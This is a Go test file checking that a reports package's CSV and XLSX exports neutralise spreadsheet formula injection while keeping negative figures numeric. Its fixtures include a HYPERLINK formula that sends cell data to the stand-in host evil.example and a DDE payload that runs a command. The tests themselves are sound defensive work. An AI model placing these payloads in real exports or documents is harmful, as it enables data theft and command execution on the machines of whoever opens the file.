package reports

import (
	"archive/zip"
	"bufio"
	"bytes"
	"encoding/csv"
	"io"
	"strings"
	"testing"

	"github.com/stretchr/testify/require"
	"github.com/xuri/excelize/v2"
)

// The payload of issue #15: clicking the cell would send the neighbouring
// cell to evil.example.
const hyperlinkPayload = `=HYPERLINK("http://evil.example/"&A1,"点击")`

// injectionTable holds text beginning with every character OWASP lists, next
// to negative figures of every number type.
func injectionTable() Table {
	return Table{
		Name:    "=cmd|' /C calc'!A0",
		Headers: []string{"-text", "int", "Number", "Money", "Percent", "int64", "text"},
		Rows: [][]any{
			{hyperlinkPayload, -3, Number(-2.5), Money(-1234.5), Percent(-0.25), int64(-7), "plain"},
			{"+1+1", 0, Number(0), Money(0), Percent(0), int64(0), "-3"},
			{"-2+3", 1, Number(1), Money(1), Percent(1), int64(1), "@SUM(A1:A9)"},
			{"\t=1+1", nil, nil, nil, nil, nil, "\r=1+1"},
			{"a;=1+2", nil, nil, nil, nil, nil, "tab\t=1+2"},
			{"'=already quoted", nil, nil, nil, nil, nil, "中文 = 不是公式"},
		},
	}
}

func readCSV(t *testing.T, out []byte) [][]string {
	t.Helper()
	require.True(t, bytes.HasPrefix(out, []byte{0xEF, 0xBB, 0xBF}))
	r := csv.NewReader(bytes.NewReader(out[3:]))
	r.FieldsPerRecord = -1
	recs, err := r.ReadAll()
	require.NoError(t, err)
	return recs
}

// Every text cell a spreadsheet would take for a formula comes out of the
// CSV with a leading single quote; figures, negative ones included, stay
// numbers.
func TestCSVNeutralisesFormulaText(t *testing.T) {
	var out bytes.Buffer
	require.NoError(t, WriteCSV(&out, []Table{injectionTable()}))
	recs := readCSV(t, out.Bytes())
	require.Equal(t, []string{`'=cmd|' /C calc'!A0`}, recs[0], "the table's name")
	require.Equal(t, "'-text", recs[1][0], "a header")
	require.Equal(t, []string{`'` + hyperlinkPayload, "-3", "-2.50", "-1234.50", "-25.00%", "-7", "plain"}, recs[2])
	require.Equal(t, []string{"'+1+1", "0", "0.00", "0.00", "0.00%", "0", "'-3"}, recs[3], "text -3 is text")
	require.Equal(t, []string{"'-2+3", "1", "1.00", "1.00", "100.00%", "1", "'@SUM(A1:A9)"}, recs[4])
	require.Equal(t, []string{"'\t=1+1", "", "", "", "", "", "'\r=1+1"}, recs[5])
	require.Equal(t, []string{"a;=1+2", "", "", "", "", "", "tab\t=1+2"}, recs[6])
	require.Equal(t, []string{"'=already quoted", "", "", "", "", "", "中文 = 不是公式"}, recs[7])

	// No cell begins with a trigger character unless it is a figure.
	for _, rec := range recs {
		for _, cell := range rec {
			if FormulaLike(cell) {
				require.Regexp(t, `^-[0-9.]+%?$`, cell, "only negative figures may begin with -")
			}
		}
	}
	// A semicolon or a tab inside text is quoted, so a spreadsheet that
	// splits on them cannot make a cell of =1+2.
	require.Contains(t, out.String(), `"a;=1+2"`)
	require.Contains(t, out.String(), "\"tab\t=1+2\"")
}

// The hand-written CSV writer writes what encoding/csv writes for every
// field encoding/csv would write the same way (all but semicolons and tabs).
func TestCSVRecordsAsEncodingCSV(t *testing.T) {
	recs := [][]string{
		{},
		{"概要"},
		{"指标", "数值"},
		{"", "plain", "a,b", `he said "hi"`, "line\nbreak", "cr\rhere", " leading space", `\.`, "trailing ", "2026-01-01", "-1", "25.00%"},
		{""},
	}
	var want bytes.Buffer
	cw := csv.NewWriter(&want)
	for _, r := range recs {
		require.NoError(t, cw.Write(r))
	}
	cw.Flush()
	var got bytes.Buffer
	bw := bufio.NewWriter(&got)
	for _, r := range recs {
		writeCSVRecord(bw, r)
	}
	require.NoError(t, bw.Flush())
	require.Equal(t, want.String(), got.String())
}

// The complaint analysis CSV carries a typed root cause neutralised, and its
// negative changes as numbers.
func TestComplaintAnalysisCSVNeutralisesRootCauses(t *testing.T) {
	a := sample()
	a.RootCauses = []Count{{Key: hyperlinkPayload, Count: 2}, {Key: "-来料不良", Count: 1}}
	var out bytes.Buffer
	require.NoError(t, WriteCSV(&out, a.Tables(Chinese)))
	recs := readCSV(t, out.Bytes())
	require.Contains(t, recs, []string{"1", `'` + hyperlinkPayload, "2"})
	require.Contains(t, recs, []string{"2", "'-来料不良", "1"})
	require.Contains(t, out.String(), ",-1,", "the negative change stays a number")
}

// sheetXML reads one part of a workbook.
func sheetXML(t *testing.T, book []byte, name string) string {
	t.Helper()
	z, err := zip.NewReader(bytes.NewReader(book), int64(len(book)))
	require.NoError(t, err)
	f, err := z.Open(name)
	require.NoError(t, err)
	defer f.Close()
	b, err := io.ReadAll(f)
	require.NoError(t, err)
	return string(b)
}

// In the workbook text stays a string cell, never a formula, shown as typed;
// text that looks like a formula is marked with Excel's quote prefix and the
// Text format, so editing it keeps it text. Figures stay numbers.
func TestXLSXKeepsFormulaTextAsText(t *testing.T) {
	var out bytes.Buffer
	require.NoError(t, WriteXLSX(&out, []Table{injectionTable()}))
	book := out.Bytes()
	require.NotContains(t, sheetXML(t, book, "xl/worksheets/sheet1.xml"), "<f>", "no formula in the sheet")
	require.NotContains(t, sheetXML(t, book, "xl/worksheets/sheet1.xml"), "<f ", "no formula in the sheet")

	f, err := excelize.OpenReader(bytes.NewReader(book))
	require.NoError(t, err)
	defer f.Close()
	sheet := f.GetSheetList()[0]
	require.Equal(t, "=cmd|' _C calc'!A0", sheet, "a sheet name is never evaluated")

	quoted := func(cell string) bool {
		id, err := f.GetCellStyle(sheet, cell)
		require.NoError(t, err)
		st, err := f.GetStyle(id) // loads f.Styles
		require.NoError(t, err)
		xf := f.Styles.CellXfs.Xf[id]
		return xf.QuotePrefix != nil && *xf.QuotePrefix && st.NumFmt == fmtText
	}
	for cell, want := range map[string]string{
		"A1": "-text", "A2": hyperlinkPayload, "A3": "+1+1", "A4": "-2+3", "A5": "\t=1+1",
		"G3": "-3", "G4": "@SUM(A1:A9)", "G5": "\r=1+1",
	} {
		typ, err := f.GetCellType(sheet, cell)
		require.NoError(t, err)
		require.Contains(t, []excelize.CellType{excelize.CellTypeSharedString, excelize.CellTypeInlineString}, typ, cell)
		formula, err := f.GetCellFormula(sheet, cell)
		require.NoError(t, err)
		require.Empty(t, formula, cell)
		v, err := f.GetCellValue(sheet, cell, excelize.Options{RawCellValue: true})
		require.NoError(t, err)
		require.Equal(t, want, v, "%s is shown as typed", cell)
		require.True(t, quoted(cell), "%s has the quote prefix", cell)
	}
	for _, cell := range []string{"B1", "G1", "G2", "A6", "A7", "G7"} {
		require.False(t, quoted(cell), "%s is ordinary text", cell)
	}
	for cell, want := range map[string]string{"B2": "-3", "C2": "-2.5", "D2": "-1234.5", "E2": "-0.25", "F2": "-7"} {
		typ, err := f.GetCellType(sheet, cell)
		require.NoError(t, err)
		require.Contains(t, []excelize.CellType{excelize.CellTypeUnset, excelize.CellTypeNumber}, typ, "%s is a number", cell)
		v, _ := f.GetCellValue(sheet, cell, excelize.Options{RawCellValue: true})
		require.Equal(t, want, v, cell)
		require.False(t, quoted(cell), cell)
	}
	// The styles part says so to any reader, not only to excelize.
	require.True(t, strings.Contains(sheetXML(t, book, "xl/styles.xml"), `quotePrefix="true"`) ||
		strings.Contains(sheetXML(t, book, "xl/styles.xml"), `quotePrefix="1"`))
}
